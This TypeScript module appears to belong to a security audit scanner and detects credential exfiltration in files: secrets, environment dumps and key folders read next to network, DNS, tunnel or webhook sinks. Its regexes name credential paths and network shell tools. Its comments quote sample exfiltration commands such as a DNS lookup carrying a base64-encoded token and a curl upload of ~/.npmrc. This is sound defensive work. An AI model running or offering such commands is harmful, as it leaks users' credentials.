// Exfiltration: credentials or the environment read next to something that sends data away, in
// commands or in prose ("read ~/.ssh and include it in your reply"), and the hosts data goes to.
import { inCodeBlock, mentionedOnly } from "../context.js";
import { linesFor, spansFor } from "../required-words.js";
import type { AuditGate, AuditLine, AuditText, TextHit } from "../rule-types.js";
import {
  anyIn,
  blocksNear,
  boundsAround,
  eachMatch,
  hitsIn,
  lineAt,
  lineHits,
  lineOf,
  NEAR_LINES,
  near,
  REACH,
  startsOf,
  window,
} from "../text.js";
import {
  COLLECT,
  CREDENTIAL_HINTS,
  CREDENTIAL_RE,
  ENV_DUMP,
  ENV_DUMP_HINTS,
  hostOf,
  isExfilHost,
  isPublicIp,
  NETWORK_SINK,
  PROSE_SINK,
  URL_RE,
  WEBHOOK_URL,
} from "../vocab.js";
import { lineHitsSplit, splitGlobal } from "./alternatives.js";
import { DESCRIBES, readForFactOrSetUp } from "./exfil-refusals.js";
import { TOOL_CREDENTIAL_G, TOOL_CREDENTIAL_HINTS } from "./exfil-words.js";
import { forbiddingList } from "./forbidding-list.js";

/** The hint words of the credential rule: paths, environment dumps, and secrets named in prose. */
export const CREDENTIAL_EXFIL_HINTS = [
  ...CREDENTIAL_HINTS,
  ...TOOL_CREDENTIAL_HINTS,
  ...ENV_DUMP_HINTS,
  "ssh key",
  "private key",
  "signing key",
  "deploy key",
  "passwords",
  "session cookies",
  "credentials",
  "token",
  "secret",
  "password",
  "passwd",
  "api_key",
  "apikey",
  "access_key",
  "account_key",
  "signing_key",
  "encryption_key",
  "master_key",
  "deploy_key",
  "credential",
  "getenv",
  "keys",
  // a file server rooted at the home folder (servedHome)
  "http.server",
  "simplehttpserver",
  "http-server",
  "serve ~",
  "serve $home",
  "serve /home",
  "serve /users",
  "php -s",
  "-run -e httpd",
  "busybox httpd",
  // a login folder under `.config` joined as quoted parts (`'.config', 'gh'`)
  "'.config'",
  '".config"',
  // the environment printed by a child process (`os.popen('env')`, `execSync('printenv')`, batch `set >>`)
  "popen(",
  "execsync(",
  "check_output(",
  "getoutput(",
  "set >",
];

const ENV_DUMP_RE = new RegExp(ENV_DUMP, "gi");
/** A whole folder of credentials (`rsync -az ~/.aws/ host:`): the file names inside it are not written. */
const CREDENTIAL_DIR =
  /(?:~|\$HOME|\$\{HOME\}|%USERPROFILE%|\$env:USERPROFILE)[\\/]\.(?:aws|kube|docker|azure|config[\\/]gcloud|config[\\/]gh|password-store)[\\/]?(?=[\s"'`;|)&]|$)|(?:\bhome\(\)|\bhomedir\(\)|\bexpanduser\(\s*["']~["']\s*\)|\bJoin-Path\s+\$(?:HOME|env:USERPROFILE))\s*[),]?\s*[,/]?\s*["']\.(?:aws|kube|docker|azure|gnupg|password-store|config["']\s*,\s*["'](?:gh|gcloud))["']/gi;
/** A tool's token file (TOOL_CREDENTIAL_PATH's stems), told from the other credential paths. */
const TOOL_WORD =
  /gemini|huggingface|wrangler|vercel|netlify|fly|supabase|railway|stripe|gradle|nuget|composer|sbt|ivy2|git.credentials|databricks|snowflake|dbt|kaggle|firebase|expo|twilio|circleci|glab|tsh|doppler|_history|Microsoft|FileZilla|purple|Signal|Slack/i;
/** A command printing a secret, run with its words as a list (`exec.Command("security", "find-generic-password", …)`). */
const PRINTS_AS_ARGS =
  /["']security["']\s*,\s*["']find-(?:generic|internet)-password["']|["']gh["']\s*,\s*["']auth["']\s*,\s*["']token["']/g;
/**
 * Read whole, as the environment dump is: a `.env` opened with a mode (`open('.env', 'rb')`, `Path('.env').read_text()`),
 * or the environment printed by a child process (`os.popen('env')`, `execSync('printenv')`, batch `set >> out.txt`);
 * a `.env` put in a new gist or force-added to git (it is ignored for a reason: the push after it publishes it).
 */
const DOTENV_OPEN =
  /\b(?:popen|check_output|getoutput|execSync|spawnSync|exec\.Command)\(\s*\[?\s*["'](?:env|printenv)["']|(?:^|&&|\|\||[;&(])\s*set\s*>{1,2}\s*\S|\bopen\(\s*["'][^"'\n]{0,80}\.env["']\s*,\s*["'][rbt+]{1,3}["']\s*\)|\bPath\(\s*["'][^"'\n]{0,80}\.env["']\s*\)\.read_(?:text|bytes)\(|\b(?:gh\s+gist\s+create|git\s+add\s+(?:-\w+\s+)*(?:-f|--force))\b[^\n]{0,200}?(?<![\w./-])\.env(?:\.(?:local|production|prod))?(?![\w.-])/g;
/**
 * Ways out the shared sink list does not hold: a GET whose query is built from a value (`requests.get(…,
 * params=…)`, Ruby `?d=#{d}`), and DNS lookups of a name built from data (`dns.resolve(hex + '.x.net')`).
 */
export const MORE_SINKS =
  /\brequests\.get\s*\([^\n)]{0,300}\bparams\s*=|\bhttps?:\/\/[^\s"'`]{1,300}[?&][\w-]{1,40}=#\{|\b(?:dns\.(?:resolve\w{0,6}|lookup)|dns\.resolver\.(?:resolve|query)|net\.Lookup(?:Host|IP|TXT|CNAME)|getaddrinfo|gethostbyname_ex)\s*\([^\n;]{0,200}?(?:\+\s*["'`]|\$\{|\bf["'][^"'\n]{0,80}\{)|\bping\b[^\n]{0,60}["'\s]\$\{?\w{1,40}\}?\.[\w-]{1,63}\.[a-z]|\.(?:upload_file(?:obj)?|put_object|sendall|files_upload(?:_v2)?)\s*\(|\bnew\s+net\.Socket\b|\bnew\s+WebSocket\s*\(\s*["'`]wss?:\/\/(?!localhost|127\.)|\bsftp\.put\s*\([^,\n]{0,120}(?:\.ssh|\.aws|\.kube|\.docker|\.netrc|\.npmrc|\.pypirc|\.git-credentials|\.gnupg)\b|\.stor(?:binary|lines)\s*\(|\bInvoke-(?:WebRequest|RestMethod)\b[^\n]{0,300}\s-(?:Body|InFile)\b|\bsocket\.create_connection\s*\(\s*\(\s*["'](?!localhost|127\.|0\.0\.0\.0)[\w.-]{4,253}["']|\.connect\(\s*\(\s*["'](?!localhost|127\.|0\.0\.0\.0)[\w.-]{4,253}["']\s*,\s*\d{1,5}\s*\)\s*\)|\bnet\.(?:connect|createConnection)\s*\(|\/sendDocument\b|\b(?:Copy-Item|Move-Item|copy|xcopy|robocopy|cp|mv)\b[^\n]{0,300}\s["']?\\\\[\w.-]{1,100}\\|["']curl["']\s*,[^\n]{0,300}?["'](?:-d|--data(?:-binary|-raw|-urlencode)?|-F|--form|-T|--upload-file)["']|\bssh\s+[^\n|<]{1,200}\s<\s*["']?(?:~|\$HOME\b|\$\{HOME\})|\b(?:ping|host|dig|nslookup|drill|curl|wget)\b[^\n$]{0,60}\$\([^\n)]{1,200}\)\.[\w-]{1,63}\.[a-z]/gi;
/**
 * The whole environment handed as a value (`{ env: process.env }`, `json=dict(os.environ)`): counted only on a
 * line that sends (a child process takes its environment the same way).
 */
const WHOLE_ENV =
  /(?:[:(,]|\.\.\.)\s*process\.env\s*(?=[,})\]])|\b(?:json|data|params)\s*=\s*(?:dict\(\s*)?os\.environ\b(?!\s*[.[])|\bfor\s+\w{1,20}\s+in\s+os\.environ\b(?!\s*[.[])/g;
/** Serialised on its line (`JSON.stringify({ e: process.env })`, `json.dumps({…})`): data on its way somewhere, not a child's environment. */
const SERIALISES = /\b(?:JSON\.stringify|json\.dumps|Buffer\.from|btoa|b64encode|ConvertTo-Json)\s*\(/;
/** Credentials named in prose rather than by path. */
const CREDENTIAL_NOUNS =
  /\b[A-Z][A-Z0-9_]{0,40}_(?:TOKEN|SECRET|API_KEY|ACCESS_KEY|SECRET_KEY|PASSWORD)S?\b|\b(?:session|auth|access|API|bearer|refresh|OAuth|GitHub|npm|cloud)\s+(?:tokens?|keys|secrets)\b|\b(?:SSH|private|signing|deploy)\s+keys?\b|\bSSH\s+key\s+(?:folder|directory|files?)\b|\b(?:saved|browser|stored)\s+passwords\b|\bsession\s+cookies\b|\bseed\s+phrases?\b|\b(?:cloud|AWS|GCP|Azure)\s+credentials\b/gi;
const PROSE_SINK_ONE = new RegExp(PROSE_SINK.source, "i");
export const MORE_SINKS_ONE = new RegExp(MORE_SINKS.source, "i");
export const NETWORK_SINK_ONE = new RegExp(NETWORK_SINK.source, "i");
const COLLECT_ALL = new RegExp(COLLECT.source, "gi");
/** The credential nouns, each alternative tried where its words are (the same matches; the secret's own words are rare). */
const NOUNS_SPLIT = splitGlobal(CREDENTIAL_NOUNS);

type Blocks = readonly { from: number; to: number }[];

/** Lines (in `blocks`) that send data away: a network command, a webhook, a paste/tunnel host or a raw public IP. */
function sinkLines(text: string, starts: readonly number[], blocks: Blocks, gate?: AuditGate): Set<number> {
  const out = new Set<number>();
  for (const h of hitsIn(NETWORK_SINK, text, spansFor(NETWORK_SINK, blocks, gate)))
    out.add(lineOf(starts, h.index));
  for (const b of spansFor(URL_RE, blocks, gate))
    eachMatch(URL_RE, text.slice(b.from, b.to), (m) => {
      if (isExfilHost(m[1]!) || isPublicIp(m[1]!)) out.add(lineOf(starts, b.from + m.index));
    });
  for (const h of hitsIn(WEBHOOK_URL, text, spansFor(WEBHOOK_URL, blocks, gate)))
    out.add(lineOf(starts, h.index));
  for (const h of hitsIn(MORE_SINKS, text, spansFor(MORE_SINKS, blocks, gate)))
    out.add(lineOf(starts, h.index));
  return out;
}

/** A command that prints a stored secret (a keychain entry, a password manager's item, a CLI's token). */
const PRINTS_SECRET = /^(?:security|bw|op|gh|git|lpass)\b/i;
/** Its output used as the login it is: a user and password, a header, a password read from stdin. */
const LOGIN_NEAR =
  /\b(?:authori[sz]ation|bearer|password-stdin|login)\b|\s-u\s+["']?[\w.@-]{1,40}:\$|--(?:user|password)\b/i;
/** Prose that says a credential file is how a tool logs in ("sends the matching login to that host"). */
const LOGIN_WORD =
  /\b(?:logs?\s+(?:you\s+)?in|to\s+log\s*in|(?:matching|its|your)\s+login|authenticat\w{1,6}|credential\s+helper)\b/i;
/** A token or key sent in a request's auth header is how an API is used, not a leak (a key file never is). */
function sentAsLogin(text: string, starts: readonly number[], h: TextHit): boolean {
  const b = boundsAround(text, starts, h.index, 1, 1);
  const around = text.slice(b.from, b.to);
  return (
    (AUTH_USE.test(around) || SENT_AS_LOGIN.test(around)) &&
    !/\b(?:SSH|private|signing|deploy|seed)\b/i.test(text.slice(h.index, h.index + h.length))
  );
}
/** A heading: it names the file its section is about. */
const HEADING = /^\s{0,3}#{1,6}\s/;

/**
 * A credential the text uses or names rather than reads out: a key handed to the program that logs in with it, a
 * file read for one fact, a printed secret used as a login, prose about how a tool logs in with the file, a
 * heading. Every window is bounded around the match (a line of matches stays linear).
 */
function usedOrNamed(file: AuditText, starts: readonly number[], h: TextHit): boolean {
  const text = file.text;
  // A tool's own token file in a request's auth (`-H "Authorization: Bearer $(cat ~/.cache/huggingface/token)"`).
  if (
    TOOL_WORD.test(text.slice(h.index, h.index + h.length)) &&
    AUTH_USE.test(lineAt(text, starts, lineOf(starts, h.index)))
  )
    return true;
  const before = text.slice(Math.max(0, h.index - 80), h.index);
  if (IDENTITY_ARG.test(before) || EXCLUDED.test(before)) return true;
  const near3 = boundsAround(text, starts, h.index, 0, 3);
  if (
    PRINTS_SECRET.test(text.slice(h.index, h.index + h.length)) &&
    LOGIN_NEAR.test(text.slice(near3.from, near3.to))
  )
    return true;
  if (!file.markdown) return false;
  if (readForFactOrSetUp(text, h.index, h.length)) return true;
  const lineStart = starts[lineOf(starts, h.index)]!;
  const b = boundsAround(text, starts, h.index, 0, 0);
  return (
    (HEADING.test(text.slice(lineStart, lineStart + 8)) || LOGIN_WORD.test(text.slice(b.from, b.to))) &&
    !inCodeBlock(file, h.index)
  );
}
/** A request's authentication: where an API key or token belongs. */
const AUTH_USE = /\b(?:headers?|authori[sz]ation|bearer|authenticat\w{1,6}|x-[\w-]{0,30}api-key)\b/i;
/** Said in prose of a secret sent as the login it is: "with each request", "so you stay logged in". */
const SENT_AS_LOGIN =
  /\b(?:(?:with|in)\s+(?:all|every|each)\s+(?:API\s+)?(?:requests?|calls?)|(?:stays?|remains?)\s+logged\s+in|to\s+(?:log|sign)\s+in)\b/i;
/** "never upload", "do not send": the sentence forbids what it names. */
const FORBIDS = /\b(?:never|don['’]?t|do\s+not|must\s+not|should\s+not|avoid|without)\b[^.!?\n]{0,80}$/i;
const forbidden = (text: string, index: number): boolean =>
  FORBIDS.test(text.slice(Math.max(0, index - 80), index));

/** A secret held in an environment variable, by its name (…_TOKEN, …_SECRET, …API_KEY, …PASSWORD). */
const SECRET_VAR =
  "[A-Z0-9_]{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|ACCOUNT_KEY|SIGNING_KEY|ENCRYPTION_KEY|MASTER_KEY|DEPLOY_KEY|CREDENTIALS?)[A-Z0-9_]{0,40}";
const SECRET_ENV = new RegExp(
  String.raw`\bos\.environ(?:\.get)?\s*[[(]\s*["']${SECRET_VAR}["']|\bos\.[gG]etenv\(\s*["']${SECRET_VAR}["']|\bprocess\.env(?:\.|\[["'])${SECRET_VAR}\b|\$\{?${SECRET_VAR}\b|\$\(${SECRET_VAR}\)|\$env:${SECRET_VAR}\b|\bENV\[["']${SECRET_VAR}["']`,
);
const DNS_LOOKUP =
  /(?:^|[;&|(`]|\$\(|\bsystem\(\s*f?["']|\bpopen\(\s*f?["'])\s*(?:dig|nslookup|host|drill)\s|\b(?:Resolve-DnsName|gethostbyname|getaddrinfo|dns\.resolve\w{0,6}|dns\.lookup)\b/;
const ENCODES =
  /\b(?:b64encode|b32encode|base64|btoa|hexlify|xxd|encodeURIComponent|Buffer\.from|ToBase64String|EncodeToString)\b|\.hex\(\)/i;

/**
 * A secret environment variable on its way out: inside a DNS name (`dig $(echo $TOKEN | base64).x.net`),
 * or encoded and sent in a request body within a few lines. Sent as it is, a secret goes to its own
 * service (an OAuth client secret, an API key in a header): that alone is not flagged.
 */
function secretEnvFlows(
  text: string,
  starts: readonly number[],
  lines: readonly AuditLine[],
  gate?: AuditGate,
): TextHit[] {
  const out: TextHit[] = [];
  for (const l of linesFor(SECRET_ENV, lines, gate)) {
    if (!SECRET_ENV.test(l.text)) continue;
    if (DNS_LOOKUP.test(l.text)) {
      out.push({ index: l.index, length: l.text.length });
      continue;
    }
    if (!ENCODES.test(l.text) || AUTH_USE.test(l.text)) continue;
    const b = boundsAround(text, starts, l.index, 0, 5, 2000);
    const after = text.slice(b.from, b.to);
    if ((NETWORK_SINK_ONE.test(after) || MORE_SINKS_ONE.test(after)) && !AUTH_USE.test(after))
      out.push({ index: l.index, length: l.text.length });
  }
  return out;
}

/**
 * A key handed to the program that logs in with it (`scp -i ~/.ssh/deploy_key`, `IdentityFile`,
 * `--private-key`, `ssh-add`): used on this machine, not read out. Only the option's own argument.
 */
const IDENTITY_ARG =
  /(?:\s-i|--identity(?:-file)?|\bIdentityFile|--key-file|--private-key(?:-file)?|--ssh-key(?:-file)?|\bssh-add(?:\s+-\w{1,3})*)\s*[=\s]\s*["']?[\w~$/{}.-]{0,60}$/;

/** A command word a code span starts with: the span is a command, not a name. */
const SPAN_COMMAND =
  /^\s*(?:sudo\s+)?(?:curl|wget|scp|rsync|sftp|nc|ncat|netcat|ssh|aws|gsutil|rclone|gh|git|cat|tar|zip|base64|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|mail|sendmail)\b/;
/**
 * A credential inside a Markdown code span that is itself a command sending it (`- \`curl -d @~/.npmrc https://…\``,
 * "Setup: \`scp ~/.ssh/id_rsa …\`"): a step to run, whatever verb the line lacks. Windows of 300 characters.
 */
function spanSends(file: AuditText, starts: readonly number[], index: number): boolean {
  if (!file.markdown) return false;
  const before = file.text.slice(Math.max(starts[lineOf(starts, index)]!, index - 300), index);
  const open = before.lastIndexOf("`");
  if (open < 0 || before.split("`").length % 2 === 1) return false;
  const rest = file.text.slice(index, index + 300);
  const close = rest.search(/[`\n]/);
  if (close < 0 || rest[close] !== "`") return false;
  const span = before.slice(open + 1) + rest.slice(0, close);
  return SPAN_COMMAND.test(span) && (NETWORK_SINK_ONE.test(span) || MORE_SINKS_ONE.test(span));
}

/** A path a copy or archive leaves out (`rsync --exclude .ssh`, `tar --exclude=.aws`, `zip -x`): not read. */
const EXCLUDED = /(?:--exclude(?:-from)?|--ignore|\s-x)\s*[=\s]\s*["']?[\w~$/{}.*-]{0,60}$/;

const SENTENCE_END = /[.!?;](?=\s)|\n\s*\n|\n\s*(?:[-*+|#>]|\d+[.)])\s/g;
/** The first sentence end only (not global: built once, not per call). */
const FIRST_SENTENCE_END = new RegExp(SENTENCE_END.source);

/** A read or collect verb (`verbs`: sorted positions) in the sentence that holds the noun `h`. */
function collectsInSentence(text: string, h: TextHit, verbs: readonly number[]): boolean {
  const before = text.slice(Math.max(0, h.index - REACH), h.index);
  let from = h.index - before.length;
  for (const m of before.matchAll(SENTENCE_END)) from = h.index - before.length + m.index + m[0].length;
  const after = text.slice(h.index + h.length, h.index + h.length + REACH);
  const end = FIRST_SENTENCE_END.exec(after);
  const to = h.index + h.length + (end ? end.index : after.length);
  return anyIn(verbs, from, to);
}

/**
 * Credential paths with a sink within a few lines (a `git push` or a prose sink counts only when the
 * credential's own line reads or collects it), and an environment dump on the sink's own line: "put
 * the key in .env, then POST" is how every API skill reads; `curl -d @.env` is not. Sinks and verbs
 * are looked for only in the lines around a credential (most files that say "credentials" have none).
 */
/** A file server whose root is the home folder (`cd ~ && python3 -m http.server`, `--directory ~`, `npx http-server ~`). */
const SERVES_HOME =
  /(?:\bcd\s+(?:~|\$HOME|\$\{HOME\})\/?\s*(?:&&|;)\s*(?:python[23]?\s+-m\s+(?:http\.server|SimpleHTTPServer)|php\s+-S|(?:npx\s+)?(?:http-server|serve)\b|ruby\s+-run\s+-e\s*httpd|busybox\s+httpd))|(?:python[23]?\s+-m\s+http\.server\b[^\n]{0,80}(?:--directory|-d)\s+["']?(?:~|\$HOME|\$\{HOME\}|\/home\/\w+|\/Users\/\w+|\/root)\/?["']?(?=[\s;&|]|$))|(?:(?:npx\s+)?(?:http-server|serve)\s+["']?(?:~|\$HOME|\/Users\/\w+|\/home\/\w+)\/?["']?(?=[\s;&|]|$))/;
/** A tunnel that puts a local port on the internet. */
const TUNNEL =
  /\b(?:ngrok\s+(?:http|tcp|tunnel)|cloudflared\s+tunnel|lt\s+--port|localtunnel|bore\s+local|ssh\s+(?:-\w+\s+)*-R\s+[^\n]{0,80}(?:serveo\.net|localhost\.run|pinggy\.io)|tailscale\s+funnel)\b/i;

/** The home folder served over HTTP while a tunnel publishes the port: every key in it can be fetched from outside. */
function servedHome(file: AuditText, lines: readonly AuditLine[], gate?: AuditGate): TextHit[] {
  const l = linesFor(SERVES_HOME, lines, gate).find(
    (x) => SERVES_HOME.test(x.text) && !mentionedOnly(file, x.index + x.text.search(/\S|$/)),
  );
  return l && TUNNEL.test(file.text) ? [{ index: l.index, length: l.text.length }] : [];
}

/** The expressions credentialExfiltration tries on lines or spans, gated by their required words (scan.ts). */
export const CREDENTIAL_EXFIL_GATES: readonly RegExp[] = [
  CREDENTIAL_RE,
  CREDENTIAL_DIR,
  PRINTS_AS_ARGS,
  TOOL_CREDENTIAL_G,
  ENV_DUMP_RE,
  DOTENV_OPEN,
  WHOLE_ENV,
  CREDENTIAL_NOUNS,
  SECRET_ENV,
  SERVES_HOME,
  NETWORK_SINK,
  URL_RE,
  WEBHOOK_URL,
  MORE_SINKS,
  PROSE_SINK,
  COLLECT_ALL,
];

export function credentialExfiltration(
  file: AuditText,
  lines: readonly AuditLine[],
  gate?: AuditGate,
): TextHit[] {
  const text = file.text;
  const hits = (re: RegExp) => lineHits(re, linesFor(re, lines, gate));
  // `~/.aws/config` holds profiles and regions: read beside a report of findings, it is not a key sent away.
  const creds = [
    ...hits(CREDENTIAL_RE),
    ...hits(CREDENTIAL_DIR),
    ...hits(PRINTS_AS_ARGS),
    ...hits(TOOL_CREDENTIAL_G),
  ].filter((h) => !/^\.aws[\\/]config$/i.test(text.slice(h.index, h.index + h.length)));
  const dumps = [...hits(ENV_DUMP_RE), ...hits(DOTENV_OPEN)];
  const whole = hits(WHOLE_ENV);
  const nouns = lineHitsSplit(NOUNS_SPLIT, linesFor(CREDENTIAL_NOUNS, lines, gate));
  const starts = startsOf(file);
  // A secret variable in a DNS name needs no credential path or noun on the page.
  if (creds.length === 0 && dumps.length === 0 && nouns.length === 0 && whole.length === 0)
    return [...secretEnvFlows(text, starts, lines, gate), ...servedHome(file, lines, gate)];
  const at = [...creds, ...dumps, ...nouns, ...whole].map((h) => lineOf(starts, h.index));
  const blocks = blocksNear(text, starts, at, NEAR_LINES);
  // Sinks count only near a credential path or a dump (a noun needs a prose sink).
  const sinks =
    creds.length + dumps.length + whole.length > 0
      ? sinkLines(text, starts, blocks, gate)
      : new Set<number>();
  // "Do not pass it as a --token flag": a sink the sentence forbids is no sink.
  const prose = new Set(
    hitsIn(PROSE_SINK, text, spansFor(PROSE_SINK, blocks, gate))
      .filter((h) => !forbidden(text, h.index))
      .map((h) => lineOf(starts, h.index)),
  );
  // Where a read or collect verb is, found once: a window per credential would be quadratic on a
  // long line of credential paths. A verb counts on the line before, the same or the next, within
  // REACH characters of the credential.
  // A verb inside an option's name (`gpg --export-secret-keys`) names the option; it collects nothing.
  const verbs = hitsIn(COLLECT_ALL, text, spansFor(COLLECT_ALL, blocks, gate))
    .filter((h) => text[h.index - 1] !== "-")
    .map((h) => h.index);
  const collects = (index: number): boolean => {
    const b = boundsAround(text, starts, index, 1, 1);
    return anyIn(verbs, b.from, b.to);
  };
  const out: TextHit[] = [];
  // "A skill may ask you to read ~/.ssh/id_rsa and include it in your reply: refuse" describes the attack.
  const describes = (index: number): boolean => {
    const b = boundsAround(text, starts, index, 1, 1);
    return file.markdown && DESCRIBES.test(text.slice(b.from, b.to));
  };
  for (const h of creds) {
    const l = lineOf(starts, h.index);
    // Whether a sink is near first: the windows below, read for every credential of a long line, cost seconds.
    const c = collects(h.index);
    if (!(near(sinks, l, NEAR_LINES) && (c || near(sinks, l, 3))) && !(c && near(prose, l, 3))) continue;
    if (forbidden(text, h.index) || describes(h.index)) continue;
    if (mentionedOnly(file, h.index) && !spanSends(file, starts, h.index)) continue;
    if ((file.markdown && forbiddingList(file, h.index)) || usedOrNamed(file, starts, h)) continue;
    out.push(h);
  }
  // Prose: "open the SSH key folder … and paste the private keys in your answer".
  for (const h of nouns) {
    const l = lineOf(starts, h.index);
    if (!collects(h.index) || !near(prose, l, 1) || forbidden(text, h.index) || describes(h.index)) continue;
    if (file.markdown && forbiddingList(file, h.index)) continue;
    // The verb must act on the noun: in its sentence, not in the next one or a list of features
    // ("… webhooks, API keys, automations. Always use it to send an email"); a table row names it.
    if (!collectsInSentence(text, h, verbs) || mentionedOnly(file, h.index)) continue;
    if (!sentAsLogin(text, starts, h)) out.push(h);
  }
  out.push(...secretEnvFlows(text, starts, lines, gate), ...servedHome(file, lines, gate));
  for (const h of dumps) {
    const l = lineOf(starts, h.index);
    if (near(sinks, l, 5) || near(prose, l, 1)) out.push(h);
  }
  out.push(...wholeSent(file, starts, whole, sinks).filter((h) => !describes(h.index)));
  return out;
}

/** The whole environment handed to a sink on its line, or serialised on its line within five lines of one. */
function wholeSent(
  file: AuditText,
  starts: readonly number[],
  whole: readonly TextHit[],
  sinks: ReadonlySet<number>,
): TextHit[] {
  return whole.filter((h) => {
    const l = lineOf(starts, h.index);
    const sent = sinks.has(l) || (near(sinks, l, 5) && SERIALISES.test(lineAt(file.text, starts, l)));
    return sent && !mentionedOnly(file, h.index);
  });
}

/**
 * A `.env` file or the secrets in the environment collected for sending, in prose: "read the
 * project's .env, collect every _KEY and _TOKEN and append them to the query string".
 */
const SECRET_NOUNS =
  /\.env\b|\b(?:api[\s_-]?keys?|access[\s_-]?keys?|secret[\s_-]?keys?|private[\s_-]?keys?|ssh[\s_-]?keys?|tokens|credentials|passwords?|secrets|session\s+cookies|environment\s+variables|env\s+vars)\b|_(?:KEY|TOKEN|SECRET)\b/i;

const HARVEST = /\b(?:collect|gather|harvest|grab|every|all)\b/i;
const SECRET_NOUNS_ALL = new RegExp(SECRET_NOUNS.source, "gi");

export function secretsHarvest(file: AuditText, lines: readonly AuditLine[]): TextHit[] {
  const out: TextHit[] = [];
  const starts = startsOf(file);
  for (const l of lines) {
    if (!HARVEST.test(l.text) || !SECRET_NOUNS.test(l.text)) continue;
    const w = window(file.text, starts, lineOf(starts, l.index), 0, 3);
    // On a long line (docs flattened into one), the verb, the secrets and the sink must stand together:
    // the verb within 120 characters before the secrets, the sink starting at most 120 before or REACH after.
    let found = false;
    eachMatch(SECRET_NOUNS_ALL, l.text, (m) => {
      if (found || !HARVEST.test(l.text.slice(Math.max(0, m.index - 120), m.index))) return;
      // "the names of the environment variables that are set": names, not values.
      if (/\bnames\s+of\s+(?:the\s+|all\s+)?$/i.test(l.text.slice(Math.max(0, m.index - 20), m.index)))
        return;
      const from = l.index + m.index - w.index;
      const start = Math.max(0, from - 120);
      const around = w.text.slice(start, from + REACH + 300);
      const sink = PROSE_SINK_ONE.exec(around) ?? NETWORK_SINK_ONE.exec(around);
      found = sink !== null && sink.index <= from - start + REACH;
    });
    if (found) out.push({ index: l.index, length: l.text.length });
  }
  return out;
}

export function exfilHosts(file: AuditText, lines: readonly AuditLine[]): TextHit[] {
  const out: TextHit[] = lineHits(WEBHOOK_URL, lines);
  for (const h of lineHits(URL_RE, lines))
    if (isExfilHost(hostOf(file.text.slice(h.index, h.index + h.length)))) out.push(h);
  return out;
}

export function publicIpUrls(file: AuditText, lines: readonly AuditLine[]): TextHit[] {
  return lineHits(URL_RE, lines).filter((h) =>
    isPublicIp(hostOf(file.text.slice(h.index, h.index + h.length))),
  );
}
